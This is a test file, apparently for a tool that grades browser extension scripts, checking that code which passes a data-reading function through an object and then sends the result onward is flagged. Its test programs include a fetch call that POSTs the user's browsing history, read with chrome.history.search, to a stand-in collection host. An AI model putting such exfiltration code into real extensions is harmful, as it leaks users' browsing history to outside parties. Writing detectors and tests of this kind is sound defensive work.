import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* What a function gives that an object holds, and that is read there and handed on: `run(table.read)`. */

it.each([
  'const run = (g) => g(); run(table.read).then(send);',
  'const run = (c) => ({ go: async () => c.ask() }); run({ ask: table.read }).go().then(send);',
])('%s', async (use) => {
  const program = (read: string): string =>
    `const send = (list) => fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(list) }); const table = { read: async () => ${read} }; ${use}`;
  const manifest = { permissions: ['history'] };
  expect(await graded({ background: program("chrome.history.search({ text: '' })"), manifest })).toBe('F');
  expect(await graded({ background: program("['fixed']"), manifest })).toMatch(/^A/);
});
